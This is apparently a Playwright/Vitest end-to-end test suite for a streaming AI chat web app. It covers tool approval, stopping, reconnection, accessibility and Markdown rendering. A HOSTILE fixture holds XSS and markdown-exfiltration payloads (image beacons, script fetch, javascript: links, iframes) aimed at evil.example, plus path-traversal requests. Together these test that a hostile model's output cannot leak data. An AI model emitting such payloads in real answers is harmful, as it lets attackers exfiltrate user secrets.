import axe from 'axe-core';
import { join } from 'node:path';
import { setTimeout } from 'node:timers/promises';
import type { Browser, BrowserContextOptions, Page } from 'playwright';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startChat, installChat, type ChatProgram } from '../support/chatApp.ts';
import { startChatModel, type ChatModel, type ChatScript } from '../support/chatModel.ts';
import { run, temporaryFolder } from '../support/packedPackage.ts';
import { hasRedis } from '../support/redis.ts';
import { mainThreadIn } from '../support/trace.ts';
import { launchChromium } from '../support/launchChromium.ts';

const KEY = 'sk-a-key-that-no-page-sees';
const HOSTILE = [
  '<img src="https://evil.example/pixel?secret">\n\n![secret](https://evil.example/image?secret)\n\n',
  '<script>fetch("https://evil.example/script")</script>\n\n',
  '[a click](javascript:fetch("https://evil.example/click")) [data](data:text/html,<script>1</script>)\n\n',
  '<iframe src="https://evil.example/frame"></iframe><style>@import "https://evil.example/css";</style>\n\n',
  '<a href="https://evil.example/prefetch" ping="https://evil.example/ping">x</a> <svg onload="alert(1)">\n\n',
  '[![badge](https://evil.example/badge)](https://evil.example/) <https://evil.example/auto>\n\n',
  '[ref]: https://evil.example/ref "title"\n\nThe end.',
];
const WIDTHS = '[document.documentElement.scrollWidth, document.documentElement.clientWidth]';
const LONG = Array.from({ length: 400 }, (_, index) => `${index} sheep, `);

const folder = temporaryFolder();
let chat: string;
let browser: Browser;
let model: ChatModel;
let server: ChatProgram;
let page: Page;

beforeAll(async () => {
  browser = await launchChromium();
  chat = await installChat(folder.path);
}, 900_000);
afterAll(async () => {
  await browser.close();
  folder.remove();
});
afterEach(async () => {
  for (const context of browser.contexts()) await context.close();
});

async function open(address: string, options: BrowserContextOptions = {}): Promise<string[]> {
  const complaints: string[] = [];
  const context = await browser.newContext({ viewport: { width: 1_000, height: 800 }, ...options });
  page = await context.newPage();
  page.on('pageerror', (error) => complaints.push(error.message));
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  await page.goto(address);
  return complaints;
}

async function ask(question: string): Promise<void> {
  await page.getByLabel('Your message', { exact: true }).last().fill(question);
  await page.keyboard.press('Enter');
}

/** What the last answer shows once it shows this. */
async function shows(pattern: RegExp | string): Promise<string> {
  const answer = page.locator('.answer').last();
  await answer.filter({ hasText: pattern }).waitFor({ timeout: 50_000 });
  return answer.innerText();
}

/** What a screen reader hears. */
async function announces(state: string): Promise<void> {
  await page.getByRole('status').filter({ hasText: state }).waitFor({ state: 'attached', timeout: 50_000 });
}

async function faults(): Promise<unknown> {
  await page.evaluate(axe.source);
  const tags = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'];
  const { violations } = await page.evaluate<axe.AxeResults>(`axe.run({ runOnly: ${JSON.stringify(tags)} })`);
  return violations.map(({ id, nodes }) => [id, nodes[0]?.html]);
}

describe('the chat with its own model', () => {
  beforeAll(async () => {
    server = await startChat(chat, 'main');
  }, 150_000);
  afterAll(() => server[Symbol.asyncDispose]());

  it('shows reasoning and growing arguments, asks before a tool runs, and says what it took', async () => {
    const complaints = await open(server.address);
    await page.getByRole('button', { name: 'Book a ferry' }).click();
    await announces('The model asks for your approval');
    expect(await shows('waits for you')).toMatch(/Thoughts[^]*Look up departures[^]*done[^]*seats\s+2/);
    expect(await faults()).toStrictEqual([]);

    await page.getByRole('button', { name: 'Yes' }).click();
    await announces('The answer is complete');
    expect(await shows('two seats at 15:55')).toMatch(/first token [\d.]+ s · \d+ tokens\/s · \$/);
    expect(complaints).toStrictEqual([]);
  });

  it('books nothing if the user says no', async () => {
    await open(server.address, { colorScheme: 'dark', viewport: { width: 360, height: 740 } });
    await ask('Book the next ferry.');
    await page.getByRole('button', { name: 'No', exact: true }).click({ timeout: 50_000 });
    expect(await shows('nothing is booked')).not.toContain('reference');
    const [needed, given] = await page.evaluate<[number, number]>(WIDTHS);
    expect(needed).toBeLessThanOrEqual(given);
    expect(await faults()).toStrictEqual([]);
  });

  it('says that another model answers, and retains what came of an answer that breaks off', async () => {
    await open(server.address);
    await ask('Are you busy?');
    expect(await shows('in its place')).toContain('mock-small');

    await ask('Break off, please.');
    await announces('The answer failed');
    expect(await shows('The answer broke off')).toContain('This answer begins well');
    expect(await faults()).toStrictEqual([]);
    await page.reload();
    expect(await shows('The answer broke off')).toContain('This answer begins well');
    await page.getByRole('button', { name: 'Try again' }).click();
    await announces('The model is thinking');
  });

  it('joins an answer after a reload', async () => {
    await open(server.address);
    await ask('Write a long essay.');
    await shows('patient thing');
    await page.reload();
    await announces('The model is answering');
    expect(await shows('patient thing')).toContain('On ferries');
    await page.getByRole('button', { name: 'Stop' }).click();
    await announces('The answer was stopped');
  });

  it('refuses what a page doesn’t send', async () => {
    await open(server.address);
    const post = (type: string, body: string, path = 'chat') =>
      fetch(`${server.address}/api/${path}`, { method: 'POST', headers: { 'content-type': type }, body });
    const refused = await Promise.all([
      post('text/plain', '{"id":"a","messages":[{"role":"user","content":"a"}]}'),
      post('application/json', '{"id":"a","messages":[{"role":"system","content":"a"}]}'),
      post('application/json', '{}', 'stop'),
      fetch(`${server.address}/../server/main.ts`),
      fetch(`${server.address}/..%2fserver%2fmain.ts`),
    ]);
    expect(refused.map(({ status }) => status)).toStrictEqual([400, 400, 400, 404, 404]);
  });
});

describe('the chat with a model of its environment', () => {
  beforeEach(async () => {
    model = await startChatModel(scriptFor);
    server = await startChat(chat, 'main', { OPENAI_BASE_URL: model.baseURL, OPENAI_API_KEY: KEY });
  }, 150_000);
  afterEach(async () => {
    await server.kill();
    await model[Symbol.asyncDispose]();
  });

  it('sends the conversation, and no page sees the key', async () => {
    await open(server.address);
    const bodies: Promise<string>[] = [];
    page.on('response', (response) => bodies.push(response.text().catch(() => '')));
    await ask('First');
    await announces('The answer is complete');
    await ask('Second');
    await shows('You said Second');
    await announces('The answer is complete');

    const [, second] = model.requests as readonly { readonly messages: readonly object[] }[];
    expect(second?.messages.slice(1)).toMatchObject([
      { role: 'user', content: 'First' },
      { role: 'assistant', content: 'You said First' },
      { role: 'user', content: 'Second' },
    ]);
    expect((await Promise.all(bodies)).join()).not.toContain(KEY);
  });

  it('stops the model when Escape is pressed', async () => {
    await open(server.address);
    await ask('Count sheep');
    await shows('5 sheep');
    expect(await faults()).toStrictEqual([]);
    const pressed = performance.now();
    await page.keyboard.press('Escape');
    await expect.poll(() => model.stops.length, { timeout: 20_000 }).toBe(1);
    const delay = (model.stops[0] ?? Infinity) - pressed;
    console.log(`Stop reached the model after ${Math.round(delay)} ms`);
    expect(delay).toBeLessThan(2_000);
    await announces('The answer was stopped');
    expect(await shows('You stopped this answer')).toContain('5 sheep');
  });

  it('retains the partial answer when its server is killed, and offers to try again', async () => {
    await open(server.address);
    await ask('Count sheep');
    await shows('9 sheep');
    await server.kill();
    await announces('Reconnecting');
    expect(await shows('The connection was lost.')).toContain('9 sheep');

    const { port } = new URL(server.address);
    server = await startChat(
      chat,
      'main',
      { OPENAI_BASE_URL: model.baseURL, OPENAI_API_KEY: KEY },
      Number(port),
    );
    await page.getByRole('button', { name: 'Try again' }).click();
    await shows('0 sheep');
  });

  it('makes no request for a hostile model', async () => {
    const foreign: string[] = [];
    const complaints = await open(server.address);
    page.on('request', (request) => {
      if (!request.url().startsWith(server.address)) foreign.push(request.url());
    });
    await ask('Be hostile');
    const text = await shows('The end.');
    await announces('The answer is complete');
    expect(text).toContain('<script>fetch(');
    const links = await page
      .locator('.answer a')
      .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
    expect(links.filter((href) => !href?.startsWith('https://'))).toStrictEqual([]);
    expect(await page.locator('.answer :is(img, script, iframe, style, [onload])').count()).toBe(0);
    expect([foreign, complaints]).toStrictEqual([[], []]);
  });

  // A busy machine makes one frame of many, and even CPU time dearer.
  it.runIf(process.env['EXAMPLES'] === 'all')(
    'draws 5,000 tokens at 500 a second without a long task',
    { retry: 2 },
    async () => {
      await open(server.address);
      await browser.startTracing(page, { categories: ['toplevel', 'devtools.timeline', '__metadata'] });
      await page.evaluate(COUNT_UPDATES);
      await ask('Write 5000 tokens');
      await announces('The answer is complete');
      const { updates, frames } = await page.evaluate<{ updates: number; frames: number }>('counts');
      const { longest, total, long } = mainThreadIn(await browser.stopTracing());
      console.log(
        `5,000 tokens: longest task ${longest.toFixed(1)} ms CPU, ${long} over 50 ms, ${(total / 1_000).toFixed(2)} s in all; ${updates} updates in ${frames} frames`,
      );
      expect(longest).toBeLessThan(50);
      expect(updates).toBeLessThanOrEqual(frames);
    },
  );
});

/** Counts the frames, and those in which the answer has changed. */
const COUNT_UPDATES = `
  globalThis.counts = { updates: 0, frames: 0 };
  new MutationObserver(() => counts.updates++).observe(document.querySelector('main'), { subtree: true, childList: true, characterData: true });
  requestAnimationFrame(function count() { counts.frames++; requestAnimationFrame(count); });
`;

/** Prints the first beginning of a text that is other blocks if it has grown. */
const GROW = `
  import { Lexer } from 'marked';
  import { createBlocks } from './src/app/markdown/blocks.ts';
  import * as texts from './server/mock/texts.ts';
  const tricky = 'a\\n\\n- b\\n\\n  c\\n\\n- d\\n\\ne\\n===\\n\\n    code\\n\\n    code\\n\\n<div>\\n\\nx\\n</div>\\n\\n~~~\\na\\n\\nb\\n~~~\\n| a |\\n|---|\\n| b |\\n\\n> q\\nr\\n\\n1. o\\n\\n\\n2. p\\n\\nThe [end].\\n\\n[end]: https://example.com\\n';
  const rawOf = (tokens) => JSON.stringify(tokens.map(({ raw }) => raw));
  for (const text of [...Object.values(texts), tricky]) {
    for (const step of [1, 5, 13]) {
      const split = createBlocks();
      for (let end = 0; end < text.length + step; end += step) {
        const part = text.slice(0, end);
        const isComplete = end >= text.length;
        const grown = split(part, isComplete).map(({ token }) => token);
        if (rawOf(grown) !== rawOf(Lexer.lex(part))) console.log(part);
        if (isComplete && JSON.stringify(grown) !== JSON.stringify([...Lexer.lex(part)])) console.log(part);
      }
    }
  }
`;

describe('the chat’s Markdown', () => {
  it('grows to the same blocks however it is cut', async () => {
    const node = join(chat, 'node_modules/.bin/node');
    expect(await run(node, ['--input-type=module', '--eval', GROW], chat)).toBe('');
  });
});

describe('the chat’s scripts', () => {
  it('npm start serves the page and its model', async () => {
    await using program = await startChat(chat, 'start');
    const complaints = await open(program.address);
    await ask('What can you do?');
    expect(await shows('tokens/s')).toContain('I’m a mock');
    expect(complaints).toStrictEqual([]);
  }, 150_000);

  it.runIf(hasRedis())(
    'npm run start:two survives the death of the server that writes',
    async () => {
      await using program = await startChat(chat, 'startTwo');
      await open(program.address);
      await ask('Write a long essay.');
      await shows('patient thing');
      const [, first] = /is process (\d+)/.exec(program.output()) ?? [];
      process.kill(Number(first), 'SIGKILL');
      await shows('it was begun again');
      await setTimeout(500);
      await page.reload();
      await shows('patient thing');
      await announces('The answer is complete');
      expect((await shows('8')).match(/patient thing/g)).toHaveLength(8);
    },
    150_000,
  );
});

function scriptFor(question: string): ChatScript {
  if (question.includes('hostile'))
    return { pieces: HOSTILE.flatMap((text) => text.match(/.{1,5}/gs) ?? []), pace: 3 };
  if (question.includes('sheep')) return { pieces: LONG, pace: 60 };
  if (question.includes('5000')) return { pieces: tokens(5_000), pace: 2 };
  return { pieces: [`You said ${question}`], pace: 0 };
}

/** Markdown with all kinds of blocks. */
function tokens(count: number): readonly string[] {
  const section =
    '## A section\n\nSome words in **bold**, a `code` and a [link](https://example.com), and more of them to fill the line.\n\n- one\n- two\n  - three\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n```ts\nconst answer = await ask("Why?");\nreturn answer.length;\n```\n\n> A quote\n\n';
  const pieces = section.match(/\S{1,5}\s*|\s+/g) ?? [];
  return Array.from({ length: count }, (_, index) => pieces[index % pieces.length] ?? '');
}
